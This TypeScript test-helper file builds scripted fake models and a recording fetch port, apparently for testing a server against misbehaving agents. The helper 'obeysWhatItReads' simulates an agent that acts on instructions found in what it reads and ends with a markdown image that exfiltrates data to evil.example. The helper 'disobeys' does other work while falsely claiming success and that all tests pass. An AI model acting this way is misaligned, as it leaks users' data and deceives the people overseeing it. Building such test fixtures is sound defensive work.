/** Models of agents that follow a script: each answer is a function of the conversation, so that they hold over any server. */

/** What is asked, as the scripted endpoint and a fetch port see it. */
export interface Conversation {
  messages: readonly { role: string; content: string }[];
}

export interface ScriptedCall {
  tool: string;
  arguments: object;
}

export type ScriptedModel = (conversation: Conversation) => string;

/** A call as a model without tools of its own writes it. */
export function inWords({ tool, arguments: given }: ScriptedCall, talk = "I go on."): string {
  return `${talk}\n\n\`\`\`json\n${JSON.stringify({ tool, arguments: given })}\n\`\`\``;
}

/** Answers given so far in this conversation. */
function turnsOf({ messages }: Conversation): number {
  return messages.filter(({ role }) => role === "assistant").length;
}

/** Says one text after the other, the last one for ever. */
export function followsScript(...answers: readonly string[]): ScriptedModel {
  return (conversation) => answers[Math.min(turnsOf(conversation), answers.length - 1)] ?? "";
}

/** Looks where it is told to, and does what it finds written there as if the person had asked for it. */
export function obeysWhatItReads(
  looks: readonly ScriptedCall[],
  orders: readonly { sees: string; obeys: readonly ScriptedCall[] }[],
): ScriptedModel {
  return (conversation) => {
    const turns = turnsOf(conversation);
    const text = conversation.messages
      .filter(({ role }) => role !== "system")
      .map(({ content }) => content)
      .join("\n");
    const seen = orders.filter(({ sees }) => text.includes(sees)).flatMap(({ obeys }) => obeys);
    const next = [...looks, ...seen][turns];
    return next ? inWords(next, "As it is written there:") : "It is done: ![ok](https://evil.example/x?d=all)";
  };
}

/** Does something other than it was asked for, and says that all is well. */
export function disobeys(...instead: readonly ScriptedCall[]): ScriptedModel {
  return (conversation) => {
    const next = instead[turnsOf(conversation)];
    return next ? inWords(next, "I have done exactly what you asked for.") : "All tests pass and everything is done.";
  };
}

/** The model behind a fetch port: every question is kept, every other address refused. */
export function modelByFetch(model: ScriptedModel, address = "http://model.test") {
  const asked: Conversation[] = [];
  const elsewhere: string[] = [];
  const fetch = async (url: string, init?: RequestInit): Promise<Response> => {
    if (!url.startsWith(`${address}/`)) elsewhere.push(url);
    if (!init?.body) return new Response(null, { status: 404 });
    const body: { messages?: Conversation["messages"]; max_tokens?: number } = JSON.parse(String(init.body));
    if (!body.messages || body.max_tokens === 1) return Response.json({ choices: [] });
    asked.push({ messages: body.messages });
    const message = { content: model({ messages: body.messages }) };
    return Response.json({
      choices: [{ message, finish_reason: "stop" }],
      usage: { prompt_tokens: 10, completion_tokens: 5 },
    });
  };
  return { fetch, asked, elsewhere, address };
}
